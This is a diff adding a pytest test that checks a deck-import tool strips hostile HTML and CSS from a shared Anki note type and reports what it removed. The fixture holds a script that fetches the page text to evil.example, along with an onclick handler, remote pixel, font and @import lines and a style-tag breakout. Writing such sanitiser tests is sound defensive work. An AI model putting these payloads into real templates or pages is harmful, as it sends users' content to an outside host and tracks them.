@@ -421,3 +421,60 @@ def test_the_first_release_moves_the_students_decks_to_its_preset_and_the_report
     assert ("A student who ticks **Import deck presets** when importing a release, as deckgen's README asks, "
             "has every deck of *Pharma* moved to *Pharma (course order)*, at the first release and at every "
             "later one") in report
+
+
+HOSTILE_FRONT = ("<script>fetch('https://evil.example/?' + document.body.innerText)</script>"
+                 '<div class="q" onclick="alert(1)">{{Front}}</div><img src="https://evil.example/pixel.png">')
+HOSTILE_CSS = ('@import url("https://evil.example/x.css");\n.card { font-family: serif; }\n'
+               "</style><script>alert(1)</script><style>\n"
+               '@font-face { font-family: f; src: url("https://evil.example/f.woff"); }\n')
+
+
+def test_a_hostile_shared_deck_is_imported_without_its_script_and_the_report_says_what_was_removed(
+        tmp_path, run_cli, student):
+    folder = tmp_path / "author"
+    folder.mkdir()
+    collection = Collection(str(folder / "collection.anki2"))
+    models = collection.models
+    shared = models.copy(models.by_name("Basic"), add=False)
+    shared["name"] = "Shared basic"
+    shared["tmpls"][0]["qfmt"] = HOSTILE_FRONT
+    shared["css"] = HOSTILE_CSS
+    models.add(shared)
+    _add(collection, "Shared basic", collection.decks.id("Shared::Part"), [], Front="Question", Back="Answer")
+    package = folder / "shared.apkg"
+    collection.export_anki_package(out_path=str(package), limit=DeckIdLimit(collection.decks.id("Shared")),
+                                   options=ExportAnkiPackageOptions(with_scheduling=False, with_deck_configs=False,
+                                                                    with_media=False, legacy=True))
+    collection.close()
+    import_package(student, package)  # a student already studies the shared deck, script and all
+    project = tmp_path / "project"
+
+    result = run_cli("import", str(package), str(project), cwd=tmp_path)
+
+    assert result.exit_code == 0, result.stderr
+    assert result.stdout.splitlines()[:2] == [
+        f"{project}/templates/shared-basic.card-1.front.html: removed <script>, onclick= on <div>, src= on <img>",
+        f"{project}/templates/shared-basic.css: removed @import, url(https://evil.example/x.css), '</', url(https://evil.example/f.woff)",
+    ]
+    report = (project / "import-report.md").read_text()
+    assert "| `templates/shared-basic.card-1.front.html` | <script>, onclick= on <div>, src= on <img> |" in report
+    assert "| `templates/shared-basic.css` | @import, url(https://evil.example/x.css), '</', url(https://evil.example/f.woff) |" in report
+    assert "nothing to decide" not in report
+    assert run_cli("check", "--strict", cwd=project).exit_code == 0
+    released = run_cli("release", "1.0.0", cwd=project, env={"SOURCE_DATE_EPOCH": str(int(time.time()))})
+    assert released.exit_code == 0, released.stderr
+
+    log = import_package(student, project / "build" / "shared-1.0.0.apkg")
+
+    # The note type's look changed, with a newer time: the student's Anki replaced it (no copy).
+    assert (len(log.new), len(log.conflicting)) == (0, 0)
+    student.close()
+    student.reopen()
+    assert [name for name in student.models.all_names() if name.startswith("Shared")] == ["Shared basic"]
+    note_type = student.models.by_name("Shared basic")
+    shipped = note_type["css"] + "".join(t["qfmt"] + t["afmt"] for t in note_type["tmpls"])
+    for hostile in ("<script", "</style", "onclick", "evil.example", "@import"):
+        assert hostile not in shipped.lower()
+    card = student.get_card(student.find_cards("")[0])
+    assert _as_read(card.question()).startswith("Question")  # the image lost its remote address
